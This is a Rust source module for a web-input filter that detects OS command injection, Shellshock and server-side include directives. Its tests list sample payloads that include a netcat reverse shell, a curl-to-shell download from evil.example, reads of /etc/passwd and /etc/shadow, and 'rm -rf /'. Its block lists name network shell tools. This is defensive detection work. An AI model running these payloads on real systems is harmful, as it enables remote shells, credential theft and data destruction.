//! OS command injection: a shell separator or substitution followed by a command shaped
//! like a real invocation. Common English words that are also commands (`cat`, `id`,
//! `sleep`, `curl`) only count with arguments a shell would get (a path, a flag, an
//! address, a number), so "milk; cat food" is prose and "; cat /etc/passwd" is not.
//! Shellshock function definitions (`() { :; };`) are matched too.

use super::{Match, shell_byte};

/// Commands that are never prose: they match with or without arguments.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "wmic",
    "nslookup",
    "systeminfo",
    "tasklist",
    "passwd",
    "useradd",
    "crontab",
    "xterm",
    "busybox",
    "mkfifo",
];

/// Commands that are also words: they need an argument shaped like [`shell_argument`].
const WEAK: &[&str] = &[
    "cat", "ls", "id", "dir", "echo", "type", "more", "less", "head", "tail", "wget", "curl", "nc",
    "ncat", "netcat", "bash", "sh", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby",
    "php", "node", "sleep", "ping", "dig", "host", "rm", "chmod", "chown", "touch", "mkdir",
    "kill", "telnet", "cmd", "find", "env", "set", "printenv", "pwd", "ps", "tftp", "ftp",
    "base64", "xxd", "awk", "sed", "grep", "tar", "nohup", "socat", "reboot", "shutdown", "exec",
];

/// The longest command in [`STRONG`] and [`WEAK`].
const LONGEST_COMMAND: usize = 10;

/// A server-side include directive (`<!--#exec cmd="..."-->`, Apache mod_include, IIS,
/// nginx's SSI module): a page that echoes the value back runs it. No form value holds one
/// for any other reason.
pub(super) fn server_side_include(value: &str) -> Option<Match> {
    const DIRECTIVES: [&str; 7] = [
        "exec", "include", "echo", "config", "printenv", "fsize", "flastmod",
    ];
    let at = super::find(value, "<!--#")?;
    let rest = value.as_bytes().get(at + 5..)?;
    DIRECTIVES
        .iter()
        .any(|d| rest.len() >= d.len() && rest[..d.len()].eq_ignore_ascii_case(d.as_bytes()))
        .then(|| Match::new("cmdi:ssi", value, at, (at + 40).min(value.len())))
}

/// Checks one decoded value.
pub fn check(value: &str) -> Option<Match> {
    if value.len() < 2 {
        return None;
    }
    if let Some(p) = super::find(value, "() {")
        && value[p..].contains(';')
    {
        return Some(Match::new(
            "cmdi:shellshock",
            value,
            p,
            (p + 12).min(value.len()),
        ));
    }
    let b = value.as_bytes();
    let mut i = 0;
    // Separators are rare: jump from one byte that may start one to the next.
    while let Some(p) = b[i..].iter().position(|&c| shell_byte(c)) {
        i += p;
        let sep_len = separator(b, i);
        if sep_len == 0 {
            i += 1;
            continue;
        }
        let start = i;
        i += sep_len;
        // Markdown and prose quote commands in backticks ("use `ls -la` here"); a backtick
        // substitution counts when it is glued to the value (`x`id``, `=`id``) or starts it.
        if b[start] == b'`' && start > 0 && b[start - 1].is_ascii_whitespace() {
            continue;
        }
        if let Some(end) = command_at(
            value,
            i,
            sep_len == 2 && &b[start..start + 2] == b"$(" || b[start] == b'`',
        ) {
            return Some(Match::new("cmdi:command", value, start, end));
        }
    }
    None
}

/// Length of a shell separator or substitution opener at `i` (0 if none).
fn separator(b: &[u8], i: usize) -> usize {
    match b[i] {
        b';' | b'\n' | b'`' => 1,
        b'|' | b'&' => {
            if b.get(i + 1) == Some(&b[i]) {
                2
            } else {
                1
            }
        }
        b'$' if b.get(i + 1) == Some(&b'(') => 2,
        _ => 0,
    }
}

/// End of a command invocation starting at byte `i` (after white space), if there is one.
fn command_at(value: &str, i: usize, substitution: bool) -> Option<usize> {
    let rest = skip_blanks(&value[i..]);
    let offset = value.len() - rest.len();
    let word_len = rest
        .find(|c: char| {
            c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | ')' | '`' | '<' | '>' | '$')
        })
        .unwrap_or(rest.len());
    if word_len == 0 {
        return None;
    }
    // Shell quoting inside a word does not stop the shell: w'h'o"am"i, c\at. The command
    // is the last path component, lowercased; built on the stack, since a word longer
    // than every command cannot be one.
    let mut buf = [0u8; LONGEST_COMMAND];
    let (mut len, mut too_long) = (0, false);
    for &b in &rest.as_bytes()[..word_len] {
        match b {
            b'\'' | b'"' | b'\\' => {}
            b'/' => (len, too_long) = (0, false),
            _ if len == LONGEST_COMMAND => too_long = true,
            _ => {
                buf[len] = b.to_ascii_lowercase();
                len += 1;
            }
        }
    }
    // Only ASCII bytes were dropped or split at, so the rest is whole characters.
    let word = match too_long {
        false => std::str::from_utf8(&buf[..len]).unwrap_or(""),
        true => "",
    };
    let absolute =
        rest.starts_with("/bin/") || rest.starts_with("/usr/") || rest.starts_with("/sbin/");
    let after = &rest[word_len..];
    let end = offset + word_len;
    if absolute || STRONG.contains(&word) {
        return Some(end);
    }
    if WEAK.contains(&word) && (substitution || shell_argument(word, after)) {
        return Some((end + 24).min(value.len()).max(end));
    }
    None
}

fn skip_blanks(s: &str) -> &str {
    let mut s = s;
    loop {
        let t = s.trim_start_matches([' ', '\t']);
        let t = t
            .strip_prefix("${IFS}")
            .or_else(|| t.strip_prefix("$IFS"))
            .unwrap_or(t);
        if t.len() == s.len() {
            return s;
        }
        s = t;
    }
}

/// Whether what follows a weak command word is what a shell would get: the end of the value
/// or another separator (`;id`), a flag, a path, a variable, a redirection, an IP address
/// or URL, or a number for the time and network probes.
fn shell_argument(word: &str, after: &str) -> bool {
    let arg = skip_blanks(after);
    let Some(first) = arg.chars().next() else {
        return after.is_empty(); // `;id` at the very end, not "; id " with trailing prose.
    };
    if matches!(first, ';' | '|' | '&' | '`' | ')' | '>' | '<' | '$') {
        return true;
    }
    if after.len() == arg.len() {
        return false; // No white space between command and argument: part of a word.
    }
    let token: &str = arg.split([' ', '\t']).next().unwrap_or("");
    if (token.starts_with('-') && token.len() > 1 && token.as_bytes()[1].is_ascii_alphanumeric())
        || token.starts_with('/')
        || token.starts_with("./")
        || token.starts_with("../")
        || token.starts_with('~')
        || token.contains("://")
        || (token.len() > 2 && token.as_bytes()[1] == b':' && token.as_bytes()[2] == b'\\')
    {
        return true;
    }
    let is_ip = token.split('.').count() == 4 && token.split('.').all(|p| p.parse::<u8>().is_ok());
    if is_ip {
        return true;
    }
    match word {
        "sleep" | "ping" => token.parse::<u32>().is_ok(),
        "nc" | "ncat" | "netcat" | "telnet" | "socat" => {
            token.parse::<u16>().is_ok() || token.contains('.')
        }
        "dig" | "host" => token.contains('.') && !token.ends_with('.'),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_match() {
        let attacks = [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x;id",
            "a && whoami",
            "$(whoami)",
            "`id`",
            "foo; ls -la",
            "8.8.8.8 | nc 10.0.0.1 4444 -e /bin/sh",
            "x; sleep 10",
            "x & ping -c 5 attacker.example",
            "; /bin/bash -i",
            "a;c'a't /etc/shadow",
            "x;cat${IFS}/etc/passwd",
            "x\nwhoami",
            "| powershell -enc AAAA",
            "& type C:\\windows\\win.ini",
            "() { :; }; /bin/bash -c 'id'",
            "x; curl http://evil.example/x.sh | sh",
            "file.txt; rm -rf /",
            "$(sleep 5)",
        ];
        let missed: Vec<_> = attacks.iter().filter(|a| check(a).is_none()).collect();
        assert!(missed.is_empty(), "missed: {missed:?}");
    }

    #[test]
    fn separators_start_only_at_marked_bytes() {
        for c in 0..=255u8 {
            for next in [c, b'(', b'x'] {
                let found = separator(&[c, next], 0) > 0;
                assert!(!found || shell_byte(c), "{c} {next}");
            }
        }
    }

    #[test]
    fn longest_command_is_the_longest() {
        let longest = STRONG.iter().chain(WEAK).map(|c| c.len()).max();
        assert_eq!(longest, Some(LONGEST_COMMAND));
    }

    #[test]
    fn benign_text_does_not_match() {
        let benign = [
            "Buy milk; cat food",
            "Tom & Jerry",
            "salt; pepper; echo chamber music",
            "R&D department",
            "I can't sleep at night",
            "Q&A: how do I ping my friend?",
            "fish & chips | beer",
            "price: $(5.00)",
            "ls",
            "rock & roll; id est",
            "AT&T",
            "me & my host family",
            "cats; dogs",
            "terms & conditions; type carefully",
            "Use `ls -la` to list files",
        ];
        for b in benign {
            assert_eq!(check(b), None, "{b}");
        }
    }
}
